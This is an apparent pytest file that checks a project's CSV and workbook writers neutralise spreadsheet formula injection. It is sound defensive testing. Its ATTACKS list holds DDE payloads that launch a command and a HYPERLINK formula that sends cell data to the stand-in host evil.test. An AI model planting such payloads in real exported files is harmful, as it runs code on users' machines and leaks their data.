"""No file that we write holds a text that a spreadsheet would compute."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook
from typer.testing import CliRunner

from clusterwatch.breakdown.files import csv_text
from clusterwatch.breakdown.tables import Table
from clusterwatch.cli import app
from shared.events.reasons import Reason, Refused
from shared.files.mending import explained, mend_table
from shared.files.writing import ACTS, inert, set_text

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "－1+1",
    "%00=1",
    "-1+1",
    "+86 557 1234",
]


def acts(text: str) -> bool:
    """Whether a spreadsheet may compute it: begins so, and is no plain number."""
    try:
        float(text.rstrip("%").replace(",", "") or "x")
    except ValueError:
        return text.lstrip().startswith(ACTS) and set(text) != {"-"}
    return False


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@given(st.sampled_from(ATTACKS) | st.text(max_size=30))
def test_a_text_is_never_computed_and_only_marked_where_it_could_be(text: str) -> None:
    written = inert(text)
    assert not acts(written)
    assert written in {text, f"'{text}"}
    assert (written == text) or text.lstrip(" \u3000\ufeff").startswith(ACTS)


@pytest.mark.parametrize(
    "number", ["-12.5", "+3", "-1,234.5", "12", "-3%", "1e-5", "-2E+3", "-", "--"]
)
def test_numbers_and_dashes_stay_what_they_are(number: str) -> None:
    assert inert(number) == number


@given(st.lists(st.sampled_from(ATTACKS), min_size=2, max_size=4))
def test_neither_break_downs_nor_refused_rows_act(texts: list[str]) -> None:
    table = Table("t", tuple(texts), (tuple(texts),))
    refusal = explained("s", 2, Refused(Reason.WRONG_TYPE, texts[0], texts[1]))
    mended = mend_table([texts], [(texts, [refusal])]).decode("utf-8-sig")
    for written in (csv_text(table), mended):
        assert not [cell for cell in cells_of(written) if acts(cell)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_workbooks_hold_texts_and_no_formulas(attack: str) -> None:
    sheet = Workbook().worksheets[0]
    cell = sheet.cell(1, 1)
    set_text(cell, attack)
    assert cell.data_type == "s"


@pytest.mark.parametrize("attack", [text for text in ATTACKS if not set(text) & set("\r\n")])
def test_assessed_tables_do_not_act(attack: str, tmp_path: Path) -> None:
    head = ["indicator", "direction", "base_year", "base_value", "latest_year", "latest_value"]
    source, made = tmp_path / "in.csv", tmp_path / "out.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        rows = csv.writer(stream)
        rows.writerow([*head, attack])
        rows.writerow([attack, "1", "2020", "10", "2024", "12", attack])

    CliRunner().invoke(app, ["assess", str(source), "--output", str(made)])

    written = cells_of(made.read_text(encoding="utf-8-sig"))
    assert len(written) > len(head)
    assert not [cell for cell in written if acts(cell)]
